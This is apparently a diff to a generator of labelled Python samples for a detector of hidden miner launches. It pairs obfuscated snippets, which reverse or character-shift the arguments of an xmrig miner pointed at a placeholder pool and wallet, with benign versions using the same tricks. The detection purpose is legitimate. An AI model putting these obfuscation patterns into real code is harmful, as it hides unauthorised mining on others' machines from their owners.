@@ -658,6 +658,16 @@ TABLES = {
         f"class Warm(Svc):\n    _enc = ['{xored('nvidia-smi', b'nb')}']\n"
         f"class Job(Svc):\n    _enc = {[xored(w, b'nb') for w in MINER.split()]!r}\n"
         "procs = [cls().start() for cls in Svc.__subclasses__()]",
+    "a decorator factory whose parameters hold the reversed argv, spread into the decorated function":
+        "import subprocess\ndef staged(*keys):\n    def deco(fn):\n        def w():\n"
+        "            return fn(*(k[::-1] for k in keys))\n        return w\n    return deco\n"
+        "@staged('girmx', '3333:ten.elpmaxe.loop')\ndef start(b, p):\n"
+        "    return subprocess.Popen([b, '-o', p, '-u', 'WALLET'])\nstart()",
+    "a decorator factory's shift applied to the words the decorated function gets":
+        "import subprocess\ndef shifted(n):\n    def deco(fn):\n        def inner(*words):\n"
+        "            return fn([''.join(chr(ord(c) - n) for c in w) for w in words])\n        return inner\n    return deco\n"
+        "@shifted(2)\ndef sh(argv):\n    subprocess.run(argv)\n"
+        f"sh({', '.join(repr(''.join(chr(ord(c) + 2) for c in w)) for w in MINER.split())})",
     "a script written to a path made with the process id, then run":
         "import os, base64, subprocess\npath = os.path.join('/tmp', 'job_' + str(os.getpid()) + '.sh')\n"
         f"with open(path, 'w') as fh:\n    fh.write('cd /tmp\\n{MINER}\\n')\nsubprocess.run(['bash', path])",
@@ -714,6 +724,10 @@ TABLES_BENIGN = {
         f"class Warm(Svc):\n    _enc = ['{xored('nvidia-smi', b'nb')}']\n"
         f"class Job(Svc):\n    _enc = {[xored(w, b'nb') for w in 'ls -la /content'.split()]!r}\n"
         "procs = [cls().start() for cls in Svc.__subclasses__()]",
+    "a decorator factory whose parameters hold an ordinary reversed argv":
+        "import subprocess\ndef staged(*keys):\n    def deco(fn):\n        def w():\n"
+        "            return fn(*(k[::-1] for k in keys))\n        return w\n    return deco\n"
+        "@staged('ims-aidivn', 'lsv')\ndef start(b, p):\n    return subprocess.Popen([b, '--format', p])\nstart()",
     "an ordinary function picked from a list written in place": "import os\nwhere = [os.getcwd][0]\nprint(where())",
     "a helper look-up of an ordinary function": "import os\ng = lambda o, n: getattr(o, n[::-1])\nprint(g(os, 'dwcteg')())",
     "a device chosen in os.environ and read back": "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n"
